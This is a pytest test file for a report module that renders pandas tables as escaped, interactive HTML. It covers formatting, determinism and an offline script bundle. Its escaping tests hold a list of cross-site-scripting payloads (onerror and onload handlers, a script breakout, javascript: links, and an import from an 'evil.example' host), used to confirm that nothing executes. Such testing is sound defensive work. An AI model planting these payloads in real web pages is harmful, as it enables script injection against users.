"""Tests of analysis.report.table_view: formatting, escaping, determinism, the one-time bundle,
and (where Chromium is installed) the tables drawn offline in a rendered report."""

from __future__ import annotations

import base64
import gzip
import html
import json
import re
import shutil
import subprocess
import tempfile
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import numpy as np
import pandas as pd
import pytest
from nbformat.v4 import new_markdown_cell, new_notebook, new_output

from analysis.errors import ParameterError
from analysis.report import table_view as tv
from analysis.report.render import render_html
from analysis.safe import escape_html

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
ACT = "document.body.setAttribute('data-xss-{n}','ran')"
PAYLOADS = [
    f'<img src=x onerror="{ACT.format(n=0)}">',
    f"</script><script>{ACT.format(n=1)}</script>",
    f'"><svg onload="{ACT.format(n=2)}">',
    f"[click](javascript:{ACT.format(n=3)})",
    f'<a href="javascript:{ACT.format(n=4)}">link</a>',
    f'![x](x" onerror="{ACT.format(n=5)})',
    "https://cdn.example.com/x.js import('https://evil.example/x.js') <!-- --> &amp; &lt;",
]
#: Tags a table's HTML may hold: our markup and the Markdown formatting tags.
OUR_TAGS = {"div", "p", "strong", "em", "code", "table", "thead", "tbody", "tr", "th", "td"}
MARKDOWN_TAGS = {"a", "br", "ul", "ol", "li", "pre", "blockquote", "hr", "h1", "h2", "h3"}


class _Tags(HTMLParser):
    """Every start tag with its attributes, and the text of every script."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"
        if self._in_script:
            self.scripts.append("")

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1] += data


def _parse(page: str) -> _Tags:
    parser = _Tags()
    parser.feed(page)
    parser.close()
    return parser


def _options(page: str) -> dict:
    """The JSON options a table's script hands to DataTables."""
    found = re.search(r"const \{ rows, pairs, \.\.\.options \} = (\{.*?\});\n", page)
    assert found, "no options in the table's script"
    return json.loads(found.group(1))


@pytest.fixture
def fresh_kernel_state(monkeypatch):
    """show_table as in a new kernel: bundle not yet displayed, no id used."""
    from collections import Counter

    from IPython.core.interactiveshell import InteractiveShell

    monkeypatch.setattr(tv, "_DISPLAYED", {})
    monkeypatch.setattr(tv, "_SEEN_IDS", Counter())
    return InteractiveShell.instance()


def _shown(*tables: pd.DataFrame, **options) -> list[dict[str, str]]:
    from IPython.utils.capture import capture_output

    with capture_output() as captured:
        for table in tables:
            tv.show_table(table, **options)
    return [dict(output.data) for output in captured.outputs]


# ---------------------------------------------------------------- formatting


@pytest.mark.parametrize(
    ("values", "texts"),
    [
        ([0.12345, -0.0004, 2.5], ["0.123", "0.000", "2.500"]),  # not -0.000
        ([1.0, 2.0, np.nan], ["1.000", "2.000", "—"]),  # floats keep their decimals
        (pd.array([3, None], dtype="Int64"), ["3", "—"]),
        ([2**60, 1], ["1152921504606846976", "1"]),  # ints are exact
        ([True, False], ["yes", "no"]),
        (pd.array([True, None], dtype="boolean"), ["yes", "—"]),
        ([None, pd.NA], ["—", "—"]),
        (pd.to_datetime(["2020-01-15", None]), ["2020-01-15", "—"]),
        (
            pd.to_datetime(["2020-01-15 10:30", "2020-01-16 00:00"]),
            ["2020-01-15 10:30:00", "2020-01-16 00:00:00"],
        ),
        ([["tax", "budget"], ("war",)], ["tax, budget", "war"]),
        ([{"b", "a"}, []], ["a, b", ""]),
        ([np.inf, -np.inf], ["∞", "-∞"]),
        (["<b>", "a & b"], ["<b>", "a & b"]),  # the text; the HTML is escaped (below)
    ],
)
def test_cells_are_formatted_for_people(values, texts):
    table = pd.DataFrame({"value": values})
    lines = tv.table_text(table).splitlines()
    assert [line.strip() for line in lines[1:-1]] == [t.strip() for t in texts]


def test_digits_round_and_numbers_sort_as_numbers():
    table = pd.DataFrame({"score": [0.98765, np.nan, 10.5], "n": [3, 20, 100]})
    with_flag = table.assign(ok=[True, False, True])
    assert _options(tv.table_html(with_flag))["pairs"] == [0, 1]  # yes/no sort as text
    options = _options(tv.table_html(table, digits=1))
    assert options["rows"] == [
        [["1.0", 0.98765], ["3", 3.0]],
        [["—", None], ["20", 20.0]],
        [["10.5", 10.5], ["100", 100.0]],
    ]
    assert options["pairs"] == [0, 1]
    assert options["order"] == []  # the table's own order is kept


def test_plain_text_is_a_compact_table_of_the_first_rows():
    table = pd.DataFrame(
        {"outlet": ["AP", "Fox <b>", None] * 5, "score": np.linspace(-0.5, 0.5, 15)}
    )
    text = tv.table_text(table, rows=3, caption="Tone by outlet")
    assert text == (
        "Tone by outlet\n"
        "outlet    score\n"
        "AP       -0.500\n"
        "Fox <b>  -0.429\n"
        "—        -0.357\n"
        "[15 rows x 2 columns; first 3 shown]"
    )


def test_long_cells_are_cut_in_the_plain_text():
    text = tv.table_text(pd.DataFrame({"text": ["word " * 30]}))
    assert text.splitlines()[1] == ("word " * 8)[: tv.TEXT_WIDTH - 1] + "…"


@pytest.mark.parametrize(
    ("table", "header"),
    [
        (pd.DataFrame({"x": [1, 2, 3]}).iloc[[2, 0]], ["x"]),  # a filtered index is dropped
        (pd.DataFrame({"x": [1]}, index=pd.Index(["r"], name="group")), ["group", "x"]),
        (pd.DataFrame({"x": [1]}, index=pd.Index(["r"])), ["", "x"]),  # labels are kept
        (pd.Series([0.5], index=pd.Index(["a"], name="frame"), name="share"), ["frame", "share"]),
        (pd.Series([1]), ["value"]),
        (
            pd.DataFrame([[1]], columns=pd.MultiIndex.from_tuples([("tone", "mean")])),
            ["tone / mean"],
        ),
    ],
)
def test_no_index_column_unless_it_carries_labels(table, header):
    page = tv.table_html(table)
    heads = re.findall(r"<th>(.*?)</th>", _options(page)["table_html"])
    assert heads == header


def test_the_input_is_not_mutated():
    table = pd.DataFrame({"x": [0.123456]}, index=pd.Index(["a"], name="g"))
    before = table.copy()
    tv.table_html(table, digits=1)
    pd.testing.assert_frame_equal(table, before)


# ---------------------------------------------------------------- escaping


def test_every_cell_and_header_is_escaped_and_nothing_else_is_markup():
    table = pd.DataFrame({p: [p, *PAYLOADS[:2]] for p in PAYLOADS})
    page = tv.table_html(table, caption=PAYLOADS[0])
    parsed = _parse(page)
    tags = {tag for tag, _ in parsed.tags}
    assert tags <= OUR_TAGS | {"script"}, tags
    assert len(parsed.scripts) == 1
    assert not [a for _, attrs in parsed.tags for a in attrs if a.startswith("on")]
    assert "javascript:" not in " ".join(
        str(v) for _, attrs in parsed.tags for v in attrs.values()
    )
    options = _options(page)
    assert options["rows"][0] == [escape_html(p) for p in PAYLOADS]
    heads = re.findall(r"<th>(.*?)</th>", options["table_html"])
    assert heads == [escape_html(p) for p in PAYLOADS]


def test_the_script_json_cannot_end_the_script_or_name_a_url():
    page = tv.table_html(pd.DataFrame({"a": PAYLOADS}))
    script = _parse(page).scripts[0]
    data = script[script.index("= {") + 2 : script.index("};\n") + 1]
    assert not set("<>&'/") & set(data)
    assert "</script" not in script.lower() and "<!--" not in script
    # the report renderer drops scripts that fetch from a CDN: a value must not look like one
    rendered = render_html(_notebook(page))
    assert rendered.count('class="news-table-live"') == 1
    assert _options(rendered) == _options(page)


def test_markdown_columns_render_safely():
    table = pd.DataFrame(
        {
            "statement": [
                "**Fox** is the most *negative* (`mean_score` &lt; 0).",
                *PAYLOADS[:6],
                None,
            ],
            "raw": ["**not markdown**"] * 8,
        }
    )
    options = _options(tv.table_html(table, markdown_columns=["statement"]))
    cells = [row[0] for row in options["rows"]]
    assert cells[0] == (
        "<strong>Fox</strong> is the most <em>negative</em> (<code>mean_score</code> &lt; 0)."
    )
    assert html.unescape(cells[1]) == PAYLOADS[0] and "<" not in cells[1]  # escaped, kept
    assert cells[4] == '<a href="#harmful-link">click</a>'
    assert cells[-1] == "—"
    assert options["rows"][0][1] == "**not markdown**"
    for cell in cells:
        tags = _parse(cell).tags
        assert {tag for tag, _ in tags} <= OUR_TAGS | MARKDOWN_TAGS, cell
        assert all(set(attrs) <= {"href"} for _, attrs in tags), cell
        assert not [a for _, a in tags if "javascript" in (a.get("href") or "").lower()], cell


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("![alt](https://example.org/x.png)", "alt"),  # images are never loaded
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("[x](JaVaScRiPt:alert(1))", '<a href="#harmful-link">x</a>'),
        ("[x](data:text/html;base64,PHNjcmlwdD4=)", '<a href="#harmful-link">x</a>'),
        ("[AP](https://apnews.com)", '<a href="https://apnews.com">AP</a>'),
        ("a\x00b & c", "ab &amp; c"),
    ],
)
def test_markdown_html(source, expected):
    assert tv.markdown_html(source) == expected


def test_real_statements_render_their_markdown(statements):
    page = tv.table_html(statements[["aspect", "statement"]], markdown_columns="statement")
    cells = [row[1] for row in _options(page)["rows"]]
    assert any("<strong>" in c for c in cells)
    assert not any("**" in c for c in cells)


# ---------------------------------------------------------------- the page and the kernel


def test_outputs_are_deterministic_and_ids_come_from_the_content(fresh_kernel_state):
    table = pd.DataFrame({"x": [1.5, 2.5]})
    assert tv.table_html(table) == tv.table_html(table.copy())
    first = _shown(table, table)
    again = _shown(table)  # a later show of the same table in the same kernel
    ids = [
        re.findall(r'<div class="news-table-box" id="([^"]+)-box"', o["text/html"])[0]
        for o in first[1:] + again
    ]
    assert ids[0].startswith("news-table-") and ids[1:] == [ids[0] + "-2", ids[0] + "-3"]
    assert "uuid" not in first[1]["text/html"].lower()


def test_the_bundle_is_displayed_once_per_kernel(fresh_kernel_state):
    outputs = _shown(pd.DataFrame({"x": [1]}), pd.DataFrame({"y": [2]}))
    assert len(outputs) == 3
    assert outputs[0]["text/html"] == tv.init_html()
    assert all("H4sI" not in o["text/html"] for o in outputs[1:])
    assert outputs[1]["text/plain"] == "x\n1\n[1 row x 1 column]"
    tv.init_tables()
    assert len(_shown(pd.DataFrame({"z": [3]}))) == 1


def test_the_bundle_is_itables_offline_bundle_compressed_and_nothing_remote():
    import itables.options

    page = tv.init_html()
    packed = re.findall(r'const BUNDLE_(JS|CSS) = "([A-Za-z0-9+/=]+)";', page)
    assert [kind for kind, _ in packed] == ["JS", "CSS"]
    js = gzip.decompress(base64.b64decode(packed[0][1]))
    assert js == Path(itables.options.dt_bundle).read_bytes()
    assert "http" not in page and "import(url)" in page
    assert len(page) < 350_000  # itables' own offline cell holds ~970 kB of base64


def test_long_tables_show_the_first_rows_with_a_note():
    table = pd.DataFrame({"i": range(30)})
    page = tv.table_html(table, max_rows=20)
    assert len(_options(page)["rows"]) == 20
    assert "Showing the first 20 of 30 rows." in page
    assert tv.table_text(table, max_rows=20).splitlines()[0] == "Showing the first 20 of 30 rows."


def test_export_writes_the_full_table_and_shows_its_note(tmp_path):
    table = pd.DataFrame({"i": range(30), "text": ["=1+1"] * 30})
    page = tv.table_html(table, max_rows=20, export="t.csv", output_dir=tmp_path)
    assert (tmp_path / "tables" / "t.csv").read_text().count("\n") == 31
    assert (
        "Showing 20 of 30 rows (10 left out); the full table is in <code>tables/t.csv</code>"
        in page
    )


def test_pages_layout_follows_rows():
    small = _options(tv.table_html(pd.DataFrame({"i": range(5)})))
    assert set(small["layout"].values()) == {None}  # one page: no search box, no pager
    big = _options(tv.table_html(pd.DataFrame({"i": range(50)}), rows=20))
    assert big["pageLength"] == 20 and big["lengthMenu"] == [
        [20, 25, 50, 100, -1],
        [20, 25, 50, 100, "All"],
    ]
    assert big["layout"]["topEnd"] == "search" and big["scrollX"] is True
    page = tv.table_html(pd.DataFrame({"i": range(50)}), rows=20)
    assert page.count("<tr>") == 1 + 20  # the static table: header and first page


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"rows": 0}, "rows"),
        ({"digits": -1}, "digits"),
        ({"digits": True}, "digits"),
        ({"max_rows": "10"}, "max_rows"),
        ({"markdown_columns": ["nope"]}, "'nope'"),
        ({"caption": 3}, "caption"),
        ({"export": "../x.csv"}, "CSV file name"),
    ],
)
def test_bad_arguments_are_named(options, message):
    with pytest.raises(ParameterError, match=re.escape(message)):
        tv.table_html(pd.DataFrame({"x": [1]}), **options)


def test_only_dataframes_and_series():
    with pytest.raises(ParameterError, match="DataFrame or Series"):
        tv.table_html([[1, 2]])  # type: ignore[arg-type]


def test_nbval_sanitizing_hides_only_the_vendor_bundle():
    from nbval.plugin import get_sanitize_patterns

    rules = get_sanitize_patterns(Path("tests/nbval_sanitize.cfg").read_text())

    def sanitize(text: str) -> str:
        for regex, replace in rules:
            text = re.sub(regex, replace, text)
        return text

    page = sanitize(tv.init_html())
    assert "GZIP-BASE64-BUNDLE" in page and len(page) < 3_000
    table = tv.table_html(pd.DataFrame({"score": [0.123]}))
    assert sanitize(table) == table.replace(tv._bundle()[0], "news_tables_BUNDLE")


# ---------------------------------------------------------------- in a browser


def _notebook(*pages: str) -> nbformat.NotebookNode:
    cells = [new_markdown_cell("# Tables")]
    nb = new_notebook(cells=cells)
    code = nbformat.v4.new_code_cell("show_table(table)")
    code.outputs = [
        new_output("display_data", data={"text/html": p, "text/plain": "table"}) for p in pages
    ]
    nb.cells.append(code)
    return nbformat.from_dict(nb)


_RESOURCES = """<script>window.addEventListener("load", () => setTimeout(() =>
document.body.setAttribute("data-resources",
  JSON.stringify(performance.getEntriesByType("resource").map((e) => e.name))), 2000));
</script></body>"""


def _rendered_dom(page: str, folder: Path) -> str:
    """``page`` rendered by headless Chromium (scripts on, 6 s of virtual time), as DOM."""
    path = folder / "report.html"
    path.write_text(page, encoding="utf-8")
    with tempfile.TemporaryDirectory() as profile:
        done = subprocess.run(
            [
                CHROMIUM,
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
                "--no-first-run",
                f"--user-data-dir={profile}",
                "--virtual-time-budget=6000",
                "--dump-dom",
                path.as_uri(),
            ],
            capture_output=True,
            text=True,
            timeout=120,
        )
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout


def _body_attribute(dom: str, name: str) -> object:
    body = re.search(r"<body[^>]*>", dom).group(0)
    return json.loads(html.unescape(re.search(rf'{name}="([^"]*)"', body).group(1)))


@pytest.mark.skipif(CHROMIUM is None, reason="headless Chromium is not installed")
def test_tables_are_drawn_offline_and_no_payload_runs(tmp_path):
    hostile = pd.DataFrame({p: [p] * 12 for p in PAYLOADS[:5]})
    statements = pd.DataFrame({"statement": ["**bold** `code`", *PAYLOADS[:6]]})
    wide = pd.DataFrame(np.arange(300).reshape(10, 30), columns=[f"col_{i}" for i in range(30)])
    pages = [
        tv.init_html(),
        tv.table_html(hostile),
        tv.table_html(statements, markdown_columns=["statement"]),
        tv.table_html(wide),
    ]
    page = render_html(_notebook(*pages)).replace("</body>", _RESOURCES, 1)
    dom = _rendered_dom(page, tmp_path)
    assert "data-xss" not in re.search(r"<body[^>]*>", dom).group(0)
    assert dom.count('class="dt-container') == 3  # the three tables are interactive
    assert len(re.findall(r'class="news-table-static"[^>]*hidden', dom)) == 3
    assert not re.findall(r"<a\b[^>]*href=\"\s*javascript:", dom, flags=re.I)
    assert not re.findall(r"<(img|svg|iframe)\b", dom, flags=re.I)
    assert "&lt;img src=x onerror=" in dom  # the payloads are shown as text
    resources = _body_attribute(dom, "data-resources")
    assert not [r for r in resources if r.startswith(("http:", "https:"))], resources
    first = dom[dom.index('class="dt-container') :]
    body_rows = first[first.index("<tbody>") : first.index("</tbody>")]
    assert body_rows.count("<tr") == 10  # one page of the twelve rows
    assert 'class="dt-scroll-body"' in dom  # wide tables scroll sideways


#: Clicks the second header twice (ascending, descending), then searches for "Fox".
_PROBE = """<script>
const rows = () => [...document.querySelectorAll(".dt-scroll-body tbody tr")]
  .map((tr) => [...tr.children].map((td) => td.textContent).join("|"));
const later = (f) => setTimeout(f, 300);
window.addEventListener("load", () => setTimeout(() => {
  const out = {};
  const header = () => document.querySelectorAll(".dt-scroll-head th")[1];
  header().click();
  later(() => { out.ascending = rows(); header().click();
  later(() => { out.descending = rows();
    const box = document.querySelector(".dt-search input");
    box.value = "Fox";
    box.dispatchEvent(new Event("input", { bubbles: true }));
  later(() => { out.search = rows();
    document.body.setAttribute("data-probe", JSON.stringify(out)); }); }); });
}, 2000));
</script></body>"""


@pytest.mark.skipif(CHROMIUM is None, reason="headless Chromium is not installed")
def test_numbers_sort_as_numbers_and_search_filters_in_the_browser(tmp_path):
    table = pd.DataFrame(
        {
            "outlet": ["AP", "Fox", "CNN", "BBC"] * 6,
            "score": [0.5, -0.25, np.nan, 10.0, 2.0, -3.0] * 4,
        }
    )
    page = render_html(_notebook(tv.init_html(), tv.table_html(table)))
    probe = _body_attribute(
        _rendered_dom(page.replace("</body>", _PROBE, 1), tmp_path), "data-probe"
    )
    scores = [[row.split("|")[1] for row in probe[k]] for k in ("ascending", "descending")]
    assert scores[0][:6] == ["—"] * 4 + ["-3.000"] * 2  # missing first, then the lowest
    assert scores[1][:6] == ["10.000"] * 4 + ["2.000"] * 2  # 10 above 2: not text order
    assert {row.split("|")[0] for row in probe["search"]} == {"Fox"}
    assert len(probe["search"]) == 6


def test_package_warnings_are_shown_without_the_package_path() -> None:
    import warnings

    from analysis.corpus import CorpusWarning
    from analysis.report.table_view import plain_package_warnings

    saved = warnings.formatwarning
    try:
        plain_package_warnings()
        plain_package_warnings()  # a second call keeps one wrapper
        shown = warnings.formatwarning("skipped README.md", CorpusWarning, "/x/select.py", 127)
        assert shown == "CorpusWarning: skipped README.md\n"
        other = warnings.formatwarning("other", UserWarning, "/x/y.py", 3)
        assert other.startswith("/x/y.py:3: UserWarning: other")
    finally:
        warnings.formatwarning = saved


def test_a_table_is_the_same_bytes_when_its_floats_differ_in_the_last_bits():
    weights = pd.DataFrame({"term": ["u.s", "hugo"], "weight": [0.15180703707886806, 0.1391]})
    other_cpu = weights.assign(weight=[0.15180703707886778, 0.1391])  # another BLAS kernel
    assert tv.table_html(weights) == tv.table_html(other_cpu)
    assert "0.151807037079" in tv.table_html(weights)  # the sort key, 12 significant digits
    assert tv.table_html(weights) != tv.table_html(weights.assign(weight=[0.1518070371, 0.1391]))
